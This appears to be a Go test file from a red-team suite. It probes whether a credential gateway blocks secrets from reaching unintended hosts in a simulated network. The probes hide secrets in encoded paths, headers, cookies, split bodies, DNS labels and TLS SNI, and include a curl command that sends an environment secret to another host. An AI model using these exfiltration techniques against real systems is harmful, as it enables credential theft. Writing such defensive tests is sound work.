package redteam

import (
	"bytes"
	"fmt"
	"slices"
	"strings"

	"github.com/custody-project/custody/audit"
	"github.com/custody-project/custody/redteam/simnet"
)

// all adds the probes of credentials. A secret that is observed out of scope ends all secrets of its step, so most
// probes have a separate step.
func (c secretProbes) all() {
	leaks, credentials, leftovers := leakProbes{c}, credentialProbes{c}, leftoverProbes{c}
	leaks.controls()
	leaks.all()
	credentials.steering()
	credentials.secondAuth()
	credentials.placeholders()
	leftovers.endedSteps()
	credentials.reflections()
	leftovers.copies()
	redactionProbes{c}.all()
}

// secretive adds a probe of the scene secrets. Unless it has another check, its secrets may reach only their own
// servers.
func (c secretProbes) secretive(p Probe) {
	p.scene = withSecrets
	if p.outer == nil {
		p.outer = spilled
	}
	c.add(p)
}

// spilled describes where outside the probe's value or its placeholder was observed at a server that must not receive
// it, "" if nowhere.
func spilled(t *trial, p Probe, said report) string {
	for _, s := range p.about {
		if where := t.watch.seenOutside(s, func(text string) string { return shown([]byte(text), t.values[s.name]) }); where != "" {
			return "the secret " + s.name + " was seen " + where
		}
		for _, f := range said.Filled {
			if where := t.watch.seenOutside(s, func(text string) string { return hit(strings.Contains(text, string(f)), "as it was sent") }); where != "" {
				return "the placeholder of the secret " + s.name + " was seen " + where
			}
		}
	}
	return ""
}

func hit(yes bool, how string) string {
	if yes {
		return how
	}
	return ""
}

// arrives fails a probe unless a server received the value in its header.
func arrives(s secret) outer {
	return func(t *trial, p Probe, said report) string {
		for _, r := range t.net.Requests() {
			if strings.Contains(r.URI, p.token) && slices.Contains(s.homes, r.SNI) && slices.Equal(r.Header[simnet.KeyHeader], []string{t.values[s.name]}) {
				return spilled(t, p, report{})
			}
		}
		return fmt.Sprintf("the credential did not arrive: %s %s %.80q", said.Stage, said.Error, said.Answer)
	}
}

// leakProbes are the probes of sending a step's value to a host that it is not for.
type leakProbes struct{ secretProbes }

// controls adds the controls: uses of secrets that must work.
func (c leakProbes) controls() {
	add := func(id, title string, t *task, proof evidence, o outer, binds ...secret) {
		c.secretive(Probe{ID: "control/" + id, Title: title, Bypass: Positive, Control: true, step: "works", task: t, allowed: reaches, proof: proof, outer: o, binds: binds})
	}
	used := func(b *about, r *audit.Record) bool {
		return allowedFlow(b, r) && r.HTTP != nil && r.HTTP.Credential == b.binds[0].name
	}
	add("credential", "the gateway replaces a placeholder with its credential",
		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nX-Api-Key: {{API_KEY|raw}}\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
	add("credential-added", "the gateway adds a credential to a request without one",
		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nConnection: close\r\n\r\n"), used, arrives(apiKey), apiKey)
	add("reflected", "a credential comes back in an answer whose masking is off",
		tlsTo(simnet.Fronted, "GET /v1/reflect?"+c.token()+" HTTP/1.1\r\nHost: "+simnet.Fronted+"\r\nConnection: close\r\n\r\n"), used,
		func(t *trial, _ Probe, said report) string {
			if !bytes.Contains(said.Answer, []byte(t.values[shownKey.name])) {
				return "the response does not have it: " + said.Stage + " " + said.Error
			}
			return ""
		}, shownKey)
	s := c.env()
	add("in-scope", "a value sent to a host that it is for arrives",
		tlsTo(simnet.API, "GET /v1/"+c.token()+" HTTP/1.1\r\nHost: "+simnet.API+"\r\nX-Data: {{"+strings.ToUpper(s.name)+"|base64}}\r\nConnection: close\r\n\r\n"), allowedFlow,
		func(t *trial, p Probe, said report) string {
			for _, r := range t.net.Requests() {
				if strings.Contains(r.URI, p.token) && shown([]byte(fmt.Sprint(r.Header)), t.values[p.binds[0].name]) != "" {
					return ""
				}
			}
			return "it did not arrive: " + said.Stage + " " + said.Error
		}, s, apiKey)
}

// tlsTo returns a task that sends text within TLS.
func tlsTo(name, text string) *task {
	return &task{Do: "talk", Name: name, Port: 443, TLS: &tlsTask{SNI: name, ALPN: []string{"http/1.1"}}, Send: once(text), Timeout: 5}
}

// all adds the leaks in requests, and has namedLeaks add those in names.
func (c leakProbes) all() {
	other := "other." + simnet.Wild
	for _, l := range []struct{ id, title, text string }{
		{"url", "in a path, with percent escapes", "GET /x/{{V|url}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"url-all", "in a path, every byte escaped", "GET /x/{{V|urlall}}/{T} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"query-base64", "in a query, in base64 after one byte", "GET /{T}?d={{V|base64at1|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"query-base64url", "in a query, in base64url", "GET /{T}?d={{V|base64url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"header", "in a header", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|raw}}\r\n\r\n"},
		{"header-base64", "in a header, in base64 after two bytes", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64at2}}\r\n\r\n"},
		{"header-twice", "in a header, in hex of base64", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64|hex}}\r\n\r\n"},
		{"header-name", "in the name of a header, in hex", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX{{V|hex}}: y\r\n\r\n"},
		{"basic", "as the password of Basic authentication", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nAuthorization: Basic {{V|user}}\r\n\r\n"},
		{"cookie", "in a cookie, in JSON", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nCookie: a={{V|json}}\r\n\r\n"},
		{"body", "in a body", "POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|length}}\r\n\r\n{{V|raw}}"},
		{"body-chunks", "in a body of chunks of 5 bytes", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks}}"},
		{"body-chunks-base64", "in a body of chunks of 3 bytes, in base64", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks64}}"},
		{"body-utf16", "in a body, in UTF-16", "POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|utf16le|length}}\r\n\r\n{{V|utf16le}}"},
	} {
		s := c.env()
		t := refusedTo(other, c.templated(l.text, other, s))
		p := Probe{ID: "leak/" + l.id, step: "leak", Title: "a value sent to another host, " + l.title, Bypass: Elsewhere, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")}
		if strings.Contains(l.id, "chunks") {
			p.Bypass = SplitWrites
		}
		c.secretive(p)
	}
	s := c.env()
	t := tlsTo(other, "")
	t.Send = []piece{{Data: []byte(c.templated("POST /x HTTP/1.1\r\nHost: {H}\r\nContent-Length: {{V|length}}\r\n\r\n{{V|raw[:9]}}", other, s)), Wait: 300},
		{Data: []byte(c.templated("{{V|raw[9:30]}}", other, s)), Wait: 300}, {Data: []byte(c.templated("{{V|raw[30:]}}", other, s))}}
	c.secretive(Probe{ID: "leak/body-split", step: "leak", Title: "a value sent to another host, in a body of three parts with pauses", Bypass: SplitWrites, task: t, binds: []secret{s}, proof: flagged("secret-to-other-host")})
	s = c.env()
	c.secretive(Probe{ID: "leak/h2", step: "leak", Title: "a value sent to another host, in an HTTP/2 header", Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
		task: program("sh", "-c", "curl -sS --http2 -m 60 -H \"X: $"+strings.ToUpper(s.name)+"\" https://"+other+"/"+c.token())})
	for _, l := range []struct{ id, title, text string }{
		{"clear-url", "in a path", "GET /{T}/{{V|url}} HTTP/1.1\r\nHost: {H}\r\n\r\n"},
		{"clear-header", "in a header, in base64", "GET /{T} HTTP/1.1\r\nHost: {H}\r\nX: {{V|base64}}\r\n\r\n"},
		{"clear-body", "in a body of chunks", "POST /x HTTP/1.1\r\nHost: {H}\r\nTransfer-Encoding: chunked\r\n\r\n{{V|chunks}}"},
	} {
		s := c.env()
		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value sent to another host in cleartext, " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-to-other-host"),
			task: &task{Do: "talk", Name: simnet.Plain, Port: 80, Send: once(c.templated(l.text, simnet.Plain, s))}})
	}
	c.namedLeaks()
}

// namedLeaks adds the leaks in names.
func (c leakProbes) namedLeaks() {
	for _, l := range []struct{ id, title, code, zone string }{
		{"dns-gateway", "in the labels of a name that the gateway serves, in base32", "labels32", simnet.Wild},
		{"dns-attacker", "in the labels of a name in the attacker's zone, in hex", "labels16", simnet.Attacker},
		{"dns-direct", "in the labels of a direct name, in hex", "labels16", simnet.RebindDirect},
		{"dns-direct32", "in the labels of a direct name, in base32", "labels32", simnet.RebindDirect},
	} {
		s := c.env()
		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value " + l.title, Bypass: Elsewhere, binds: []secret{s}, proof: flagged("secret-in-dns"),
			task: &task{Do: "talk", Name: c.templated("{{V|"+l.code+"}}.", "", s) + l.zone, Port: 443, Send: once("x")}})
	}
	for _, l := range []struct{ id, title, code, zone, rule string }{
		{"sni-hex", "in the SNI of a connection whose TLS the gateway does not terminate, in hex", "labels16", simnet.Rebind, "secret-in-flow"},
		{"sni-base32", "in the SNI of a connection whose TLS the gateway terminates, in base32", "labels32", simnet.Wild, "secret-in-flow"},
		{"sni-other", "in an SNI in the attacker's zone, at an allowed host, in hex", "labels16", simnet.Attacker, "secret-in-flow"},
	} {
		s := c.env()
		at := "public-" + c.token() + "." + simnet.Rebind
		if l.zone == simnet.Wild {
			at = "w" + c.token() + "." + simnet.Wild
		}
		t := tlsTo(at, "x")
		t.TLS.SNI = c.templated("{{V|"+l.code+"}}.", "", s) + l.zone
		c.secretive(Probe{ID: "leak/" + l.id, step: "leak", Title: "a value " + l.title, Bypass: Elsewhere, allowed: asks, binds: []secret{s}, proof: flaggedAs("secret-in-flow", "secret-to-other-host"), task: t})
	}
}

// templated replaces {{V|ENCODING}} in a text by the value of s.
func (c secretProbes) templated(text, host string, s secret) string {
	return strings.ReplaceAll(c.fill(text, host, simnet.Fronted), "{{V|", "{{"+strings.ToUpper(s.name)+"|")
}

func flaggedAs(rules ...audit.Rule) evidence {
	return func(b *about, r *audit.Record) bool {
		return slices.ContainsFunc(rules, func(rule audit.Rule) bool { return flagged(rule)(b, r) })
	}
}
